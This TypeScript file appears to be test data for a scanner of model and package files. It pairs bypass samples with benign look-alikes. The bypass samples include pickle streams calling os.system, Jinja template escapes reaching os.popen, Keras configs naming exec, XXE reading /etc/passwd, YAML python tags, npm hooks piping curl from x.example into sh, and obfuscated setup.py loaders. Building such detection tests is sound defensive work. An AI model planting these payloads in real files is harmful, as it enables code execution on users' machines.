// What got past scanners of others: the classes of published advisories and test sets, each written anew; and what
// real programs write that looks like it.
import { message, type Sample, sample } from './bytes.ts';

const json = (value: unknown) => JSON.stringify(value);
const short = (text: string) => `\x8c${String.fromCharCode(text.length)}${text}`;
const pickle = (...parts: readonly string[]) => Buffer.from(`\x80\x04${parts.join('')}.`, 'latin1');
const [none, minusOne] = ['N', 'J\xff\xff\xff\xff'];

interface TypeState {
  readonly flags: number;
  readonly subarray?: string;
  readonly fields?: string;
}

const state = ({ flags, subarray = none, fields = none }: TypeState) =>
  `(K\x03${short('|')}${subarray}${none}${fields}${minusOne}${minusOne}K${String.fromCharCode(flags)}t`;
const dtype = (name: string, how: TypeState) => `cnumpy\ndtype\n(${short(name)}\x89\x88tR${state(how)}b`;
const objects = dtype('O8', { flags: 63 });
const fieldOf = (type: string) => `}${short('a')}${type}K\0\x86s`;
/** An array of one element, whose bytes stand in the stream. */
const array = (type: string, content = 'C\x08AAAAAAAA') =>
  `cnumpy.core.multiarray\n_reconstruct\n(cnumpy\nndarray\nK\0\x85C\x01btR(K\x01K\x01\x85${type}\x89${content}tb`;
const bad = (title: string, ...parts: readonly string[]) =>
  sample(`NumPy: ${title}`, 'model.pkl', pickle(...parts));

function forgedTypes(): Sample[] {
  const zero = state({ flags: 0 });
  const call = 'cnumpy\nndarray\n(K\x01\x85cnumpy\nobject_\nC\x08AAAAAAAAt';
  return [
    bad('objects that the flags deny', array(dtype('O8', { flags: 0 }))),
    bad('objects in a field that the flags deny', array(dtype('V8', { flags: 0, fields: fieldOf(objects) }))),
    bad(
      'objects in a subarray that the flags deny',
      array(dtype('V8', { flags: 0, subarray: `${objects}K\x01\x85\x86` })),
    ),
    bad('a state out of the memo', zero, '\x940', array(`cnumpy\ndtype\n(${short('O8')}\x89\x88tRh\0b`)),
    bad('a state after the state', array(`${objects}${zero}b`)),
    bad(
      'a field that comes later',
      array(dtype('V8', { flags: 0, fields: `}\x94${short('a')}${dtype('f8', { flags: 0 })}K\0\x86s` })),
      `h\0${short('a')}${objects}K\0\x86s0`,
    ),
    bad(
      'a type made by another',
      array(`ccopyreg\n_reconstructor\n(cnumpy\ndtype\ncnumpy\ndtype\n${short('O8')}tR${zero}b`),
    ),
    bad('a type by INST', array(`(${short('O8')}\x89\x88inumpy\ndtype\n${zero}b`)),
    bad('a type by OBJ', array(`(cnumpy\ndtype\n${short('O8')}\x89\x88o${zero}b`)),
    bad('an array over bytes', call, 'R'),
    bad('an array over bytes by NEWOBJ', call, '\x81'),
    bad('an array over bytes by copyreg', `ccopyreg\n__newobj__\n(${call.replace('(K', 'K')}R`),
    bad(
      'an array over bytes by torch',
      `ctorch._tensor\n_rebuild_from_type_v2\n(cnumpy\nndarray\ncnumpy\nndarray\n${call.slice(15)}NtR`,
    ),
    sample(
      'scikit-learn: a class made by one that it imports',
      'model.pkl',
      pickle(`csklearn.base\nABCMeta\n(${short('X')})}tR`),
    ),
  ];
}

const template = "{{ cycler.__init__.__globals__.os.popen('id').read() }}";
/** Each gets past those who look for the end of a block only, or for whole names. */
const hiddenReaches: readonly string[] = [
  "{{ '}}' ~ x.__class__ }}",
  "{{ {'a': {}}['a'].__class__ }}",
  "{# {{ ' #}{{ lipsum ~ '' }}",
  "{% raw %}{{ ' {% endraw %}{{ x.__class__ }}'",
  '{{ x[dict(__cla=1, ss__=1)|join] }}',
  '{% set u = dict(_=1)|join %}{{ x[u] }}',
  "{% set u = 'a_b'[1] %}{{ x[u] }}",
  '{% set u = (raise_exception|string)[12] %}{{ x[u] }}',
  "{{ x|map('attr', y) }}",
  "{{ x[u ~ 'class'] }}",
  "{{ x[a]['globals'] }}",
  "{{ getattr(x, 'y') }}",
];

function documents(): Sample[] {
  const layer = (config: object) =>
    json({ class_name: 'Functional', module: 'keras', config: { layers: [config] } });
  const keras = (title: string, config: object) =>
    sample(`Keras: ${title}`, 'm.keras!/config.json', layer(config));
  return [
    ...hiddenReaches.map((text) => sample(text, 'tokenizer_config.json', json({ chat_template: text }))),
    sample('a special token that is a name', 'tokenizer_config.json', json({ eos_token: '__globals__' })),
    sample('a template by another name', 'llama.json', json({ chat_template: template })),
    sample('a template in a file', 'chat.j2', template),
    sample('a template in a file', 'prompt.template', template),
    sample('a template in YAML', 'model.yaml', `chat_template: >-\n  ${template}\n`),
    keras('a function of Python', { class_name: 'function', module: 'builtins', config: 'exec' }),
    keras('a function that loads models', {
      class_name: 'function',
      module: 'keras.models',
      config: 'load_model',
    }),
    keras('a class that is a function', { class_name: 'eval', module: 'builtins', config: {} }),
    keras('a layer with a pickle', { class_name: 'TorchModuleWrapper', module: 'keras.layers', config: {} }),
    keras('a layer that loads a model', { class_name: 'TFSMLayer', module: 'keras.layers', config: {} }),
    sample('Keras: by another name', 'architecture.json', layer({ class_name: 'Lambda', config: {} })),
    sample(
      'TensorFlow: beside a checkpoint',
      'model.ckpt.meta',
      message([1, message([4, 'serve'])], [2, message([1, message([1, 'n'], [2, 'PyFunc'])])]),
    ),
    sample(
      'XML: a file of the reader',
      'model.pmml',
      '<!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML>&x;</PMML>',
    ),
    sample(
      'XML: an address, in UTF-16',
      'model.xml',
      Buffer.from('\ufeff<!DOCTYPE p [<!ENTITY % x PUBLIC "a" "http://x.example/">]><net/>', 'utf16le'),
    ),
    sample('YAML: a call', 'hparams.yaml', 'a: !!python/object/apply:os.system ["id"]\n'),
    sample('YAML: a name', 'hparams.yml', 'a: !!python/name:subprocess.Popen\n'),
    sample('YAML: a whole tag', 'a.yaml', 'a: !<tag:yaml.org,2002:python/object/new:os.popen> [id]\n'),
    sample('YAML: a tag renamed', 'a.yaml', '%TAG ! tag:yaml.org,2002:python/\n---\na: !name:os.system\n'),
    sample('Hydra: a command', 'model_config.yaml', 'model:\n  _target_: os.system\n  command: id\n'),
    sample(
      'npm: on its way from a repository',
      'package.json',
      json({ scripts: { prepare: 'curl x.example/a | sh' } }),
      'code',
    ),
    sample(
      'npm: building',
      'binding.gyp',
      '{"targets": [{"sources": ["<!(curl https://x.example/a | sh)"]}]}',
      'code',
    ),
    sample('Python: at every start', 'sitecustomize.py', 'print()\n', 'code'),
  ];
}

const installers: readonly string[] = [
  'exec(bytes([112, 97]).decode())\n',
  "exec(''.join(chr(i) for i in [112, 97]))\n",
  "import base64 as b, builtins\ngetattr(builtins, 'ex' + 'ec')(b.b64decode('aW1wb3J0IG9z'))\n",
  "from urllib.request import urlopen as u\ne = eval\ne(u('http://x.example/a').read())\n",
];

/** A call out of the memo of the pickle before it, in bytes that nothing says are pickles; and far behind it. */
function carried(between: string): Buffer {
  const first = `N\x80\x04${short('os')}\x940${short('system')}\x94.`;
  return Buffer.from(`${first}\x80\x04h\0h\x01\x93${between}${short('id')}\x85R.`, 'latin1');
}

export const badBypasses = (): Sample[] => [
  ...forgedTypes(),
  ...documents(),
  ...installers.map((text) => sample('hidden code', 'setup.py', text, 'code')),
  sample(
    'a pipe of any program',
    'package.json',
    json({ scripts: { install: '$(printf cu)rl https://x.example|sh' } }),
    'code',
  ),
  sample('a pickle with the memo of another', 'a.dat', carried('')),
  sample('a pickle with the memo of another', 'a.dat', carried(`B\0\0\x02\0${'x'.repeat(0x20000)}0`)),
];

const classes: readonly (readonly [string, string])[] = [
  ['numpy.ma', 'MaskedArray'],
  ['numpy.rec', 'recarray'],
  ['pandas', 'CategoricalDtype'],
  ['pandas.arrays', 'DatetimeArray'],
  ['pyarrow.lib', '_restore_array'],
  ['sklearn._loss.link', 'LogitLink'],
  ['sklearn.gaussian_process.kernels', 'ConstantKernel'],
  ['sklearn.feature_extraction.text', 'TfidfVectorizer'],
  ['sklearn.neighbors._kd_tree', 'newObj'],
  ['sklearn.ensemble.forest', 'RandomForestClassifier'],
];

export function goodBypasses(): Sample[] {
  const good = (title: string, ...parts: readonly string[]) =>
    sample(`NumPy: ${title}`, 'model.pkl', pickle(...parts));
  const number = dtype('f8', { flags: 0 });
  return [
    ...classes.map(([module, name]) => sample(`${module}.${name}`, 'a.pkl', pickle(`c${module}\n${name}\n`))),
    good('numbers', array(number)),
    good('objects', array(objects, '](K\x01Ne')),
    good('records', array(dtype('V8', { flags: 16, fields: fieldOf(number) }))),
    good('records with objects', array(dtype('V8', { flags: 27, fields: fieldOf(objects) }), ']K\x01a')),
    good('a subarray', array(dtype('V8', { flags: 16, subarray: `${number}K\x01\x85\x86` }))),
    good('a type that is used again', `(${array(`${number}\x94`)}${array('h\0')}l`),
    sample(
      'NumPy: protocol 0',
      'a.pkl',
      "cnumpy\ndtype\np0\n(S'O8'\nI0\nI1\ntR(I3\nS'|'\nNNNI-1\nI-1\nI63\ntb.",
    ),
    sample(
      'torch: a subclass of tensors',
      'a.pkl',
      pickle(
        'ctorch._tensor\n_rebuild_from_type_v2\n(ctorch._utils\n_rebuild_tensor_v2\nctorch.nn.parameter\nParameter\n)}tR',
      ),
    ),
    sample(
      'an archive that begins with the letter of a reference',
      'a.bin',
      'Parameters\nN.Parameters\nN.PP',
    ),
    sample('a version out of a file', 'setup.py', "exec(open('a/version.py').read())\n", 'code'),
    sample(
      'a list of texts put together',
      'tokenizer_config.json',
      json({ chat_template: '{% if x in [a ~ b] %}{% endif %}{{ {"a": {"b": 1}}|tojson }}' }),
    ),
    sample(
      'a variable without use',
      'tokenizer_config.json',
      json({
        chat_template:
          '{% set _ = a.append(b) %}{% for i in range(3) %}{{ messages[loop.index0 - 1].content }}{% endfor %}',
      }),
    ),
    sample('any JSON', 'data.json', json({ template: '{{ config.name }}', class_name: 'A' })),
    sample('a large JSON', 'tokenizer.json', `["chat_template",${'1,'.repeat(5_000_000)}1]`),
    sample('XML', 'model.xml', '<!DOCTYPE p [<!ENTITY x "y">]><net name="&x;"/>'),
    sample('other data', 'weights.meta', Buffer.alloc(64, 7)),
    sample(
      'YAML',
      'mkdocs.yml',
      'a: 1\n_target_: torch.nn.Linear\nb: !!python/tuple [1, 2]\nc: !!python/object:argparse.Namespace {}\n',
    ),
    sample(
      'a template of YAML',
      'a.yaml',
      "chat_template: '{% for m in messages %}{{ m[''role''] }}{% endfor %}'\n",
    ),
    sample('npm: a build', 'package.json', json({ scripts: { prepare: 'tsc' } }), 'code'),
    sample(
      'npm: an add-on',
      'binding.gyp',
      '{"include_dirs": ["<!(node -p \\"require(\'node-addon-api\').include\\")"]}',
      'code',
    ),
  ];
}
